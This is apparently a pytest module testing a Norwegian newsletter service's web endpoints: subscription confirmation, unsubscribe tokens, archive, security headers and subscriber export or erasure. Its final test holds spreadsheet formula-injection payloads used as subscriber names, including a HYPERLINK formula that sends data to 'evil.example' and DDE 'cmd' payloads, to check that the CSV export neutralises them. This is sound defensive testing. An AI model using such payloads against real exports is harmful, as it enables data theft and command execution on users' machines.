"""The subscriber's side on the web (SPEC.md "The web side"), over real HTTP.

Every test talks to a real `trnews serve` process on loopback, started with the site's config,
with httpx, as a browser, a mail provider's one-click POST or a link scanner would. Most share
one server and one database (`shared`): each test then uses addresses of its own, and a client
address of its own in X-Forwarded-For (the shared server trusts 127.0.0.1 as its proxy), so
the per-client limit of one test never holds up another. What the database holds is read back
with the store itself (a CLI process per look would make the module slow); `subscribers
export --json`, `forget`, `remove --erase` and `import` are run as the CLI.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import re
import sqlite3
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage

import dkim
import feedparser
import httpx
import pytest
from support.feeds import feed_bytes
from support.mail import DKIM_TOML, DkimKey, text_part
from support.servers import SmtpServer
from support.site import Site
from support.web import (
    PUBLIC,
    SECRET,
    WebServer,
    add_reader,
    confirm_link,
    database,
    messages_to,
    new_client,
    states,
    subscribe,
    unsubscribe_url,
    wait_for_messages,
)

from pipeline import subscribers, tokens
from pipeline.store import ConsentText, Store
from pipeline.web import client_address

SECURITY = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
}


# -- the shared server -----------------------------------------------------------------------

READERS = ("anne@example.org", "bjorn@example.org")


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServer]:
    """A site with two editions sent to two readers, and its `trnews serve`."""
    root = tmp_path_factory.mktemp("web")
    site = Site(root=root)
    site.extra_toml = '[web]\ntrusted_proxies = ["127.0.0.1"]\n'
    (root / "blog.xml").write_bytes(feed_bytes("blog_wordpress.xml"))
    site.ambassador("kari-nordmann", "Kari Nordmann", "", [{"url": "blog.xml", "kind": "blog"}])
    site.write()
    (root / "readers.csv").write_text(
        "email,name\nanne@example.org,Anne Leser\nbjorn@example.org,Bjørn\n", encoding="utf-8"
    )
    site.run("subscribers", "import", "readers.csv")
    site.run("collect")
    site.run("send")
    (root / "blog.xml").write_bytes(feed_bytes("blogger_atom.xml"))
    site.run("collect")
    site.run("send")
    server = WebServer.start(site)
    yield server
    server.stop()


# -- subscribing -------------------------------------------------------------------------------


def test_the_front_page_has_a_labelled_form_with_the_consent_text_and_a_link_to_the_archive(
    shared: WebServer,
) -> None:
    page = httpx.get(shared.url("/"))

    assert page.status_code == 200
    html = page.text
    assert '<html lang="nb">' in html
    assert "Abonner på Ambassadørnytt" in html
    for field in ("email", "name", "consent"):
        assert re.search(rf'<label[^>]*for="{field}"', html), field
        assert re.search(rf'<input id="{field}" name="{field}"', html), field
    assert "Jeg vil få Ambassadørnytt på e-post" in html
    assert 'href="/archive"' in html
    assert "<script" not in html


def test_a_sign_up_is_pending_until_the_link_in_its_message_is_followed(
    shared: WebServer,
) -> None:
    site = shared.site
    answer = subscribe(shared, "carla@example.org", "Carla Berg")

    assert answer.status_code == 200
    assert "Sjekk e-posten din" in answer.text
    [msg] = wait_for_messages(site, "carla@example.org")
    assert states(site)["carla@example.org"] == "pending"
    assert msg["Subject"] == "Bekreft abonnementet på Ambassadørnytt"
    assert msg["Auto-Submitted"] == "auto-generated"
    assert msg["List-Unsubscribe"] is None  # not a newsletter: nothing to unsubscribe from
    assert "Noen, forhåpentligvis du" in text_part(msg)

    confirmed = httpx.get(shared.local(confirm_link(msg)))

    assert confirmed.status_code == 200
    assert "Du abonnerer nå" in confirmed.text
    assert states(site)["carla@example.org"] == "active"
    again = httpx.get(shared.local(confirm_link(msg)))  # a second click: still fine
    assert again.status_code == 200
    assert "Du abonnerer nå" in again.text


def test_a_confirmation_message_is_signed_with_dkim_and_carries_reply_to(
    site: Site, smtp: SmtpServer, dkim_key: DkimKey
) -> None:
    (site.root / "dkim.pem").write_bytes(dkim_key.pem)
    site.extra_toml = DKIM_TOML.format(key_file="dkim.pem")
    site.transport = "smtp"
    server = WebServer.start(site)
    try:
        assert subscribe(server, "carla@example.org").status_code == 200
        deadline = time.monotonic() + 10
        while not smtp.handler.messages and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        server.stop()
    [(envelope, msg)] = smtp.handler.messages
    raw = envelope.original_content
    assert isinstance(raw, bytes) and envelope.rcpt_tos == ["carla@example.org"]
    assert "/confirm/" in text_part(msg)
    assert dkim.verify(raw, dnsfunc=dkim_key.dns)
    assert str(msg["Reply-To"]) == "post@example.org"
    forged = raw.replace(b"/confirm/", b"/confirm/x", 1)  # a link changed on the way
    assert forged != raw and not dkim.verify(forged, dnsfunc=dkim_key.dns)


def test_the_answer_is_the_same_whatever_the_address(shared: WebServer) -> None:
    """New, pending, active and unsubscribed addresses: one page, byte for byte."""
    site = shared.site
    subscribe(shared, "dina@example.org")  # pending
    add_reader(site, "erik@example.org")  # active
    add_reader(site, "frida@example.org", unsubscribed=True)

    answers = [
        subscribe(shared, address)
        for address in (
            "gunnar@example.org",
            "dina@example.org",
            "erik@example.org",
            "frida@example.org",
            READERS[0],
        )
    ]

    assert {a.status_code for a in answers} == {200}
    assert len({a.content for a in answers}) == 1
    assert len({a.headers["content-security-policy"] for a in answers}) == 1
    wait_for_messages(site, "gunnar@example.org")
    assert not messages_to(site, "erik@example.org")  # active: nothing to confirm


def test_an_unsubscribed_reader_can_sign_up_again_through_the_form_with_a_new_confirmation(
    shared: WebServer,
) -> None:
    site = shared.site
    add_reader(site, "hanne@example.org", unsubscribed=True)

    subscribe(shared, "hanne@example.org")
    [msg] = wait_for_messages(site, "hanne@example.org")

    assert states(site)["hanne@example.org"] == "unsubscribed"  # until the link is followed
    assert httpx.get(shared.local(confirm_link(msg))).status_code == 200
    assert states(site)["hanne@example.org"] == "active"


def test_one_address_gets_at_most_one_confirmation_an_hour(shared: WebServer) -> None:
    site = shared.site
    for _ in range(3):
        assert subscribe(shared, "ivar@example.org").status_code == 200

    first = wait_for_messages(site, "ivar@example.org")

    assert len(first) == 1
    # An hour later, the next sign-up of the address gets a message of its own, with a link of
    # its own, and the first message's link still works.
    with Store.open(site.db) as store:
        later = store.sign_up(
            "ivar@example.org",
            "",
            ConsentText("1", "tekst", "nb"),
            form="web:/",
            now=datetime.now(UTC) + timedelta(minutes=61),
            resend_after=timedelta(hours=1),
        )
    assert later is not None
    later_token = tokens.sign(SECRET, f"confirm:{later.nonce}", later.subscriber_id)
    assert later_token not in confirm_link(first[0])
    assert httpx.get(shared.local(confirm_link(first[0]))).status_code == 200
    assert states(site)["ivar@example.org"] == "active"


def test_one_client_may_sign_up_five_times_in_ten_minutes(shared: WebServer) -> None:
    client = new_client()
    answers = [
        httpx.post(
            shared.url("/subscribe"),
            data={"email": f"flood{i}@example.org", "consent": "1"},
            headers=client,
        )
        for i in range(6)
    ]

    assert [a.status_code for a in answers] == [200] * 5 + [429]
    assert "For mange påmeldinger" in answers[-1].text
    assert "flood5@example.org" not in states(shared.site)
    other = subscribe(shared, "annen-klient@example.org")  # another client is not held up
    assert other.status_code == 200


def test_x_forwarded_for_is_believed_only_from_a_trusted_proxy() -> None:
    trusted: list[ipaddress.IPv4Network | ipaddress.IPv6Network] = [
        ipaddress.ip_network("10.0.0.0/8")
    ]

    assert client_address("192.0.2.7", "203.0.113.9", []) == "192.0.2.7"
    assert client_address("10.0.0.2", "203.0.113.9", trusted) == "203.0.113.9"
    # A client writing the header itself gets its own address counted, not the one it wrote.
    assert client_address("10.0.0.2", "1.2.3.4, 203.0.113.9, 10.0.0.5", trusted) == "203.0.113.9"
    assert client_address("10.0.0.2", "not-an-address", trusted) == "10.0.0.2"


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ({"email": "ikke-en-adresse", "consent": "1"}, "Skriv en hel e-postadresse"),
        ({"email": "jon@example.org"}, "Kryss av i boksen"),
    ],
    ids=["bad-address", "no-consent"],
)
def test_a_bad_address_or_a_missing_consent_is_refused_on_the_form_and_nothing_is_kept(
    shared: WebServer, data: dict[str, str], shown: str
) -> None:
    answer = httpx.post(shared.url("/subscribe"), data=data, headers=new_client())

    assert answer.status_code == 400
    assert shown in answer.text
    assert 'role="alert"' in answer.text
    assert data["email"] not in states(shared.site)


def test_a_post_from_another_site_is_refused(shared: WebServer) -> None:
    answers = [
        subscribe(shared, "kjell@example.org", Origin="https://evil.example"),
        subscribe(shared, "kjell@example.org", Origin="null", **{"Sec-Fetch-Site": "cross-site"}),
    ]

    assert [a.status_code for a in answers] == [403, 403]
    assert "kjell@example.org" not in states(shared.site)
    assert subscribe(shared, "kjell@example.org", Origin=PUBLIC).status_code == 200


def test_a_sign_up_never_confirmed_is_purged_after_seven_days(shared: WebServer) -> None:
    site = shared.site
    with Store.open(site.db) as store:
        store.sign_up(
            "glemt@example.org",
            "Glemt",
            ConsentText("1", "tekst", "nb"),
            form="web:/",
            now=datetime.now(UTC) - timedelta(days=8),
            resend_after=timedelta(hours=1),
        )
    assert states(site)["glemt@example.org"] == "pending"

    subscribe(shared, "lise@example.org")  # any sign-up purges the old ones

    assert "glemt@example.org" not in states(site)
    assert states(site)["lise@example.org"] == "pending"
    with sqlite3.connect(site.db) as conn:
        assert not conn.execute("SELECT * FROM consents WHERE name = 'Glemt'").fetchall()


# -- unsubscribing -----------------------------------------------------------------------------


def edition_to(site: Site, address: str) -> EmailMessage:
    return next(m for m in site.messages() if address in str(m["To"]) and m["List-Id"])


def test_a_scanner_fetching_the_unsubscribe_link_unsubscribes_nobody(shared: WebServer) -> None:
    site = shared.site
    url = shared.local(unsubscribe_url(edition_to(site, READERS[1])))

    page = httpx.get(url)
    httpx.head(url)

    assert page.status_code == 200
    assert re.search(r'<form method="post" action="/unsubscribe/[^"]+">', page.text)
    assert "<button" in page.text
    assert states(site)[READERS[1]] == "active"


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_the_one_click_post_unsubscribes_with_200_no_redirect_and_no_cookie(
    shared: WebServer, encoding: str
) -> None:
    site = shared.site
    address = f"oneclick-{encoding}@example.org"
    url = shared.url(
        f"/unsubscribe/{tokens.sign(SECRET, 'unsubscribe', add_reader(site, address))}"
    )
    body = {"List-Unsubscribe": "One-Click"}

    if encoding == "multipart":  # as some mail providers send it (RFC 8058 allows both)
        answer = httpx.post(url, files={"List-Unsubscribe": (None, "One-Click")})
    else:
        answer = httpx.post(url, data=body)

    assert answer.status_code == 200
    assert "location" not in answer.headers
    assert "set-cookie" not in answer.headers
    assert "Du er meldt av" in answer.text
    assert states(site)[address] == "unsubscribed"
    assert httpx.post(url, data=body).status_code == 200  # twice is fine


def test_the_unsubscribe_link_of_an_edition_already_sent_works(shared: WebServer) -> None:
    """The link in an edition sent before the web side existed keeps working."""
    site = shared.site
    url = shared.local(unsubscribe_url(edition_to(site, READERS[0])))

    answer = httpx.post(url, data={"List-Unsubscribe": "One-Click"})

    assert answer.status_code == 200
    assert states(site)[READERS[0]] == "unsubscribed"


BAD_TOKENS = {
    "preview": "preview",
    "malformed": "not-a-token",
    "unicode-digit": "².AAAAAAAAAAAAAAAAAAAAAA",
    "empty-mac": "1.",
    "forged": tokens.sign("another-secret", "unsubscribe", 1),
    "unknown-id": tokens.sign(SECRET, "unsubscribe", 99_999),
    "other-purpose": tokens.sign(SECRET, "confirm", 1),
}


@pytest.mark.parametrize("token", BAD_TOKENS.values(), ids=BAD_TOKENS.keys())
def test_a_malformed_forged_or_unknown_token_gets_404_and_changes_nothing(
    shared: WebServer, token: str
) -> None:
    before = database(shared.site)

    answers = [
        httpx.get(shared.url(f"/unsubscribe/{token}")),
        httpx.post(shared.url(f"/unsubscribe/{token}"), data={"List-Unsubscribe": "One-Click"}),
        httpx.get(shared.url(f"/confirm/{token}")),
    ]

    assert [a.status_code for a in answers] == [404, 404, 404]
    assert "Denne lenken virker ikke" in answers[0].text
    assert database(shared.site) == before


def test_an_unsubscribe_token_does_not_confirm_and_a_confirm_token_does_not_unsubscribe(
    shared: WebServer,
) -> None:
    site = shared.site
    subscribe(shared, "mari@example.org")
    [msg] = wait_for_messages(site, "mari@example.org")
    confirm_token = confirm_link(msg).rpartition("/")[2]
    with Store.open(site.db) as store:
        sub = store.subscriber("mari@example.org")
    assert sub is not None

    wrong = [
        httpx.get(shared.url(f"/confirm/{tokens.sign(SECRET, 'unsubscribe', sub.id)}")),
        httpx.post(shared.url(f"/unsubscribe/{confirm_token}")),
    ]

    assert [a.status_code for a in wrong] == [404, 404]
    assert states(site)["mari@example.org"] == "pending"


def test_the_old_links_of_an_erased_reader_never_reach_the_next_one(shared: WebServer) -> None:
    """Ids are never reused: a forgotten reader's link names no one, ever."""
    site = shared.site
    old = add_reader(site, "nils@example.org")
    with Store.open(site.db) as store:
        subscribers.forget(store, "nils@example.org")
    add_reader(site, "oda@example.org")

    answer = httpx.post(shared.url(f"/unsubscribe/{tokens.sign(SECRET, 'unsubscribe', old)}"))

    assert answer.status_code == 404
    assert states(site)["oda@example.org"] == "active"


# -- the archive ---------------------------------------------------------------------------------


def test_the_archive_lists_the_sent_editions_newest_first(shared: WebServer) -> None:
    with Store.open(shared.site.db) as store:
        editions = store.editions()
    assert len(editions) == 2

    page = httpx.get(shared.url("/archive"))

    assert page.status_code == 200
    links = re.findall(r'<a href="/archive/(\d+)">([^<]+)</a>', page.text)
    assert [int(i) for i, _ in links] == [e.id for e in editions]  # newest first
    assert [subject for _, subject in links] == [e.subject for e in editions]


def test_an_archived_edition_is_the_edition_as_sent_with_nothing_personal(
    shared: WebServer,
) -> None:
    site = shared.site
    with Store.open(site.db) as store:
        editions = store.editions()
        readers = list(store.subscribers())
    sent = edition_to(site, READERS[1])

    for edition in editions:
        page = httpx.get(shared.url(f"/archive/{edition.id}"))

        assert page.status_code == 200
        html = page.text
        assert "Ambassadørnytt" in html
        assert "@@trnews" not in html
        assert "Anne Leser" not in html and "Bjørn" not in html
        for reader in readers:
            assert reader.email not in html
            assert tokens.sign(SECRET, "unsubscribe", reader.id) not in html
        # A visitor's footer in place of the reader's: no unsubscribe link at all.
        assert "/unsubscribe" not in html
        assert "Dette er en arkivert utgave av Ambassadørnytt" in html
    oldest = httpx.get(shared.url(f"/archive/{editions[-1].id}")).text
    sent_html = str(sent.get_body(("html",)).get_content())  # type: ignore[union-attr]
    for item in re.findall(r'href="(https://[^"]+)"', sent_html):
        if "/unsubscribe/" not in item and item != f"{PUBLIC}/archive":  # the footer's
            assert item.replace("&", "&amp;") in oldest or item in oldest  # as it was sent
    neutral = httpx.get(shared.url("/unsubscribe"))
    assert neutral.status_code == 200
    assert "Bruk avmeldingslenken nederst" in neutral.text


def test_an_edition_that_does_not_exist_gets_404(shared: WebServer) -> None:
    for path in ("/archive/999", "/archive/abc", "/archive/-1"):
        assert httpx.get(shared.url(path)).status_code == 404, path


def test_the_atom_feed_lists_the_editions_with_ids_that_never_change(shared: WebServer) -> None:
    with Store.open(shared.site.db) as store:
        editions = store.editions()

    first = httpx.get(shared.url("/archive.atom"))
    feed = feedparser.parse(first.content)

    assert first.headers["content-type"].startswith("application/atom+xml")
    assert feed.version == "atom10"
    assert not feed.bozo, feed.bozo_exception
    assert feed.feed.title == "Ambassadørnytt"
    assert [e.title for e in feed.entries] == [e.subject for e in editions]
    assert [e.link for e in feed.entries] == [f"{PUBLIC}/archive/{e.id}" for e in editions]
    assert all(e.id.startswith("tag:nyhetsbrev.example.org,") for e in feed.entries)
    assert all(e.updated_parsed for e in feed.entries)
    again = feedparser.parse(httpx.get(shared.url("/archive.atom")).content)
    assert [e.id for e in again.entries] == [e.id for e in feed.entries]
    assert len({e.id for e in feed.entries}) == len(editions)


# -- the report, health, headers -------------------------------------------------------------


def test_the_open_report_is_public(shared: WebServer) -> None:
    page = httpx.get(shared.url("/report"))

    assert page.status_code == 200
    assert "Ambassadørplanen" in page.text
    assert "Kari Nordmann" in page.text
    assert "<script" not in page.text


def test_healthz_answers_while_the_database_does(shared: WebServer) -> None:
    answer = httpx.get(shared.url("/healthz"))

    assert answer.status_code == 200
    assert answer.json()["status"] == "ok"


ROUTES = [
    ("GET", "/"),
    ("POST", "/subscribe"),
    ("GET", "/confirm/preview"),
    ("GET", "/unsubscribe/preview"),
    ("POST", "/unsubscribe/preview"),
    ("GET", "/unsubscribe"),
    ("GET", "/archive"),
    ("GET", "/archive/1"),
    ("GET", "/archive.atom"),
    ("GET", "/report"),
    ("GET", "/healthz"),
    ("GET", "/no-such-page"),
    ("DELETE", "/"),
]


@pytest.mark.parametrize(("method", "path"), ROUTES, ids=[f"{m} {p}" for m, p in ROUTES])
def test_every_answer_carries_the_security_headers_and_no_cookie(
    shared: WebServer, method: str, path: str
) -> None:
    data = {"email": "headers@example.org", "consent": "1"} if method == "POST" else None
    answer = httpx.request(method, shared.url(path), data=data, headers=new_client())

    for name, value in SECURITY.items():
        assert answer.headers.get(name) == value, (name, answer.status_code)
    csp = answer.headers["content-security-policy"]
    for directive in (
        "default-src 'none'",
        "form-action 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
    ):
        assert directive in csp
    assert "unsafe-inline" not in csp and "script-src" not in csp
    assert "set-cookie" not in answer.headers
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert "<script" not in answer.text


# -- a server of its own: English, a database that stops answering, SIGTERM -------------------


def test_an_english_site_speaks_english_purges_at_start_and_says_503_without_a_database(
    site: Site,
) -> None:
    site.language = "en"
    with Store.open(site.db) as store:
        store.sign_up(
            "stale@example.org",
            "",
            ConsentText("1", "text", "en"),
            form="web:/",
            now=datetime.now(UTC) - timedelta(days=7, minutes=1),
            resend_after=timedelta(hours=1),
        )
    server = WebServer.start(site)
    try:
        assert "stale@example.org" not in states(site)  # purged when the server started
        page = httpx.get(server.url("/"))
        assert "Subscribe to Ambassadørnytt" in page.text
        assert '<html lang="en">' in page.text

        for name in site.db.parent.iterdir():
            name.unlink()
        site.db.mkdir()  # where the database was, something SQLite cannot open

        answer = httpx.get(server.url("/healthz"))
        assert answer.status_code == 503
        assert answer.json()["status"] == "unavailable"
        assert answer.headers["x-content-type-options"] == "nosniff"
    finally:
        code = server.stop()
    assert code == 0  # SIGTERM stops it cleanly


# -- export and forget, through the CLI --------------------------------------------------------


def test_export_shows_the_consent_and_forget_erases_the_person(shared: WebServer) -> None:
    site = shared.site
    subscribe(shared, "petra@example.org", "Petra")
    [msg] = wait_for_messages(site, "petra@example.org")
    httpx.get(shared.local(confirm_link(msg)))

    held = json.loads(site.run("subscribers", "export", "--json", "petra@example.org").stdout)

    assert held["subscriber"]["email"] == "petra@example.org"
    assert held["subscriber"]["state"] == "active"
    [consent] = held["consents"]
    assert consent["form"] == "web:/"
    assert consent["text_version"] == "1"
    assert consent["text"].startswith("Jeg vil få Ambassadørnytt på e-post")
    assert len(consent["text_sha256"]) == 64
    assert consent["given"] and consent["confirmed"] and consent["withdrawn"] is None
    assert held["deliveries"] == []

    forgotten = site.run("subscribers", "forget", "petra@example.org")

    assert "Erased petra@example.org" in forgotten.stdout
    gone = site.run("subscribers", "export", "--json", "petra@example.org", check=False)
    assert gone.returncode == 2
    assert "petra@example.org is not a subscriber" in gone.stderr
    assert "petra" not in json.dumps(database(site))
    # An old list imported again leaves the forgotten address out...
    (site.root / "old.csv").write_text("email\npetra@example.org\n", encoding="utf-8")
    imported = site.run("subscribers", "import", "old.csv")
    assert "1 left out" in imported.stdout
    assert "petra@example.org" not in states(site)
    # ...but she may sign up again herself.
    subscribe(shared, "petra@example.org")
    [again] = wait_for_messages(site, "petra@example.org", 2)[1:]
    assert httpx.get(shared.local(confirm_link(again))).status_code == 200
    assert states(site)["petra@example.org"] == "active"


def test_export_of_a_reader_lists_the_editions_delivered_and_remove_erase_forgets_alike(
    shared: WebServer,
) -> None:
    site = shared.site
    held = json.loads(site.run("subscribers", "export", "--json", READERS[1]).stdout)

    assert [d["state"] for d in held["deliveries"]] == ["sent", "sent"]
    assert all(d["email"] == READERS[1] and d["subject"] for d in held["deliveries"])

    site.run("subscribers", "remove", "--erase", READERS[1])

    assert READERS[1] not in json.dumps(database(site))
    with Store.open(site.db) as store:
        assert store.is_suppressed(READERS[1])


def test_export_without_an_address_prints_everyone_as_csv_or_json(shared: WebServer) -> None:
    out = shared.site.run("subscribers", "export").stdout
    as_json = json.loads(shared.site.run("subscribers", "export", "--json").stdout)

    assert out.splitlines()[0] == "email,name,state,created"
    assert [r["email"] for r in as_json] == sorted(states(shared.site))
    assert {"email", "name", "state", "created"} == set(as_json[0])


FORMULAS = {
    "formel@example.org": '=HYPERLINK("http://evil.example/?d="&A3,"Klikk")',
    "pluss@example.org": "+cmd|' /C calc'!A0",
    "minus@example.org": "-2+3+cmd|' /C calc'!A0",
    "krolla@example.org": "@SUM(1+9)*cmd|' /C calc'!A0",
}
"""Names a stranger sends through the form that a spreadsheet would run as formulas."""


def test_a_formula_sent_as_a_name_through_the_form_is_text_in_the_export(
    shared: WebServer,
) -> None:
    site = shared.site
    for address, name in FORMULAS.items():
        assert subscribe(shared, address, name).status_code == 200
    assert all(states(site)[address] == "pending" for address in FORMULAS)

    exported = site.run("subscribers", "export").stdout

    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported))}
    for address, name in FORMULAS.items():
        # A leading single quote: the spreadsheet shows the text and runs nothing.
        assert rows[address]["name"] == "'" + name
        assert rows[address]["state"] == "pending"
    # The database keeps the name as it was typed.
    held = json.loads(site.run("subscribers", "export", "--json").stdout)
    assert {r["email"]: r["name"] for r in held if r["email"] in FORMULAS} == FORMULAS
